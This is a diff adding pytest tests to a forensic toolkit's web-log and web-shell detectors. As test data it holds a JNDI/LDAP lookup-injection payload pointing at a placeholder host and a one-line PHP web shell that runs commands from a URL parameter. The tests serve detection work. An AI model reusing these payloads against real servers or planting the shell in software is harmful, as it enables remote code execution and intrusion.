@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import hashlib
 import random
 from datetime import UTC, datetime, timedelta
 
 import pytest
 
+from forensic_toolkit.folding import folded
 from forensic_toolkit.readers import web_logs
 from forensic_toolkit.readers.coverage import Artifact
 from forensic_toolkit.readers.web_logs import Clock, decoded, moment
@@ -335,3 +337,50 @@ def test_the_common_form_of_a_line_is_read_as_the_whole_pattern_reads_it(line: s
     assert web_logs.parts(line) == match.group(
         "address", "user", "time", "method", "target", "status", "referer", "agent"
     )
+
+
+def test_what_is_no_request_is_a_line_all_the_same() -> None:
+    """A scanner that speaks TLS to a plain port, a greeting, nothing: forms of two public servers' logs."""
+    lines = [
+        r'web.example:80 192.0.2.3 - - [26/May/2015:08:11:14 +0200] "\x16\x03\x01" 400 0 "-" "-"',
+        '192.0.2.4 - - [10/Sep/2016:05:07:38 +0000] "Hello" 400 166 "-" "-"',
+        '192.0.2.5 - - [10/Sep/2016:05:07:39 +0000] "-" 408 - "-" "-"',
+        '192.0.2.5 - - [10/Sep/2016:05:07:40 +0000] "" 400 0 "-" "-"',
+        '192.0.2.6 - - [10/Sep/2016:05:07:41 +0000] "${jndi:ldap://198.51.100.7/a} x" 400 0 "-" "-"',
+    ]
+    artifact = Artifact("web log", "/var/log/nginx/access.log", 1)
+    said = list(web_rules.requests(lines, artifact=artifact, shells={}))
+    assert (artifact.lines, artifact.parsed) == (5, 5)
+    assert [item.title for item in said if isinstance(item, Finding)] == ["Lookup injection from 192.0.2.6"]
+
+
+def test_texts_show_code_and_packaged_scripts_are_said_without_alarm() -> None:
+    example = b"Installation\n============\n<?php $CONF['a'] = 'b'; ?>\n"
+    shell = b"<?php system($_GET['x']);"
+    digest = hashlib.md5(shell, usedforsecurity=False).hexdigest()
+    builder = Builder().add("/var/www/html/INSTALL.TXT", example).add("/var/www/html/a.txt", b"\n<?php echo 1;")
+    builder.add("/etc/nginx/nginx.conf", b"root /var/www/html;\n")
+    builder.add("/var/lib/dpkg/status", b"Package: p\nStatus: install ok installed\nVersion: 1\n")
+    builder.add("/var/lib/dpkg/info/p.list", b"/.\n/var/www/html/p.php\n/var/www/html/q.php\n")
+    builder.add(
+        "/var/lib/dpkg/info/p.md5sums", f"{digest}  var/www/html/p.php\n{digest}  var/www/html/q.php\n".encode()
+    )
+    builder.add("/var/www/html/p.php", shell).add("/var/www/html/q.php", shell + b"#")
+    found = {path: finding.severity for path, finding in web_rules.web_shells(builder.tree()).items()}
+    assert found == {
+        "/var/www/html/a.txt": "critical",
+        "/var/www/html/p.php": "info",
+        "/var/www/html/q.php": "critical",
+    }
+
+
+def test_the_uses_of_a_shell_from_one_address_are_one_finding() -> None:
+    lines = [
+        f'192.0.2.4 - - [10/Sep/2016:05:07:{n:02} +0000] "GET /a.php?c=id{n} HTTP/1.1" 200 166 "-" "-"'
+        for n in range(50)
+    ]
+    said = web_rules.requests(
+        lines, artifact=Artifact("web log", "/var/log/nginx/access.log", 1), shells={"/a.php": "/var/www/html/a.php"}
+    )
+    (one,) = folded([item for item in said if isinstance(item, Finding)])
+    assert (one.count, one.severity) == (50, "critical")
